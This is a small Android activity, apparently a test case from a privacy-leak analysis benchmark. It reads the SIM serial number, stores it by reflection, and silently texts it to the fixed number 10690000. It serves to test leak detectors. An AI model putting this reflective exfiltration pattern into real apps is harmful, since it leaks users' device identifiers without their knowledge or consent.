package cn.privlens.suite.field_write;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Field;

public class Main extends Activity {
    static class Info {
        public String id = "";
        public String os = "";
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Info info = new Info();
        try {
            Field f = Info.class.getDeclaredField("id");
            f.setAccessible(true);
            f.set(info, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        } catch (ReflectiveOperationException e) {
            return;
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, info.id, null, null);
    }
}
